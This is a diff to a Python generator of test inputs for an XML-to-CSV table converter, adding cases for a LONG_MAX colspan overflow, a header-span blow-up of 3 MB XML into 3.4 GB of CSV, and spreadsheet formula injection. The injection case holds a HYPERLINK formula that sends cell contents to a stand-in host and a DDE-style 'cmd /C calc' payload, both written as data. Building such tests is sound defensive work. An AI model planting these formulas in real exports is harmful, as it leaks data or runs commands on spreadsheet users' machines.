@@ -250,6 +250,19 @@ def xml_cases(put):
         b'<row><cell row="4294967296" col="-5" rowspan="0" colspan="99999999999"><line>x</line>'
         b'</cell></row></table></article></part></issue>\n')
     put("xml-ctrl.xml", head + b"<meta><series>a&#x1;b &#xFFFE; &#xD800;</series></meta></issue>\n")
+    # colspan = LONG_MAX over a body cell further right: col + colspan
+    # overflowed in the CSV writer (UBSan)
+    put("xml-span-overflow.xml", head + b'<part n="I" title="t"><article n="01"><title>t</title>'
+        b'<table type="grid" rows="2" cols="2"><row header="1">'
+        b'<cell row="0" col="1" colspan="9223372036854775807"><line>H</line></cell></row>'
+        b'<row><cell row="1" col="5"><line>b</line></cell></row></table></article></part></issue>\n')
+    # cells a spreadsheet would run as formulas
+    put("xml-csv-inject.xml", head + b'<part n="I" title="t"><article n="01"><title>t</title>'
+        b'<table type="grid" rows="2" cols="2"><caption>=HYPERLINK("http://e/?"&amp;A1,"x")</caption>'
+        b'<row header="1"><cell row="0" col="0"><line>@SUM(1+1)*cmd|\' /C calc\'!A0</line></cell>'
+        b'<cell row="0" col="1"><line>h</line></cell></row>'
+        b'<row><cell row="1" col="0"><line>-1,200.5</line></cell>'
+        b'<cell row="1" col="1"><line>-2+3</line></cell></row></table></article></part></issue>\n')
 
 
 def rules_cases(put):
@@ -296,6 +309,17 @@ def big_cases(put, link):
     link("pages-2000-max100.pdf", "pages-2000.pdf")
     put("stream-longline.kpl", b"kplayout\t1\ndoc\tx.pdf\t1\t-\t-\t-\nline\t"
         + b"a" * (10 * 1024 * 1024) + b"\nend\t0\n")
+    # 20000 header cells each spanning all 20000 columns: every body cell's
+    # column header joined all of them (3 MB of XML, 3.4 GB of CSV)
+    n = 20000
+    put("xml-header-spans.xml", b'<issue version="1" source="a" pages="1" rules="kostec"><meta/>'
+        b'<part n="I" title="t"><article n="01"><title>t</title>'
+        b'<table type="grid" rows="2" cols="%d"><row header="1">' % n
+        + b"".join(b'<cell row="0" col="0" colspan="%d"><line>h%d</line></cell>' % (n, i)
+                   for i in range(n))
+        + b"</row><row>"
+        + b"".join(b'<cell row="1" col="%d"><line>b</line></cell>' % i for i in range(n))
+        + b"</row></table></article></part></issue>\n")
 
 
 def main():
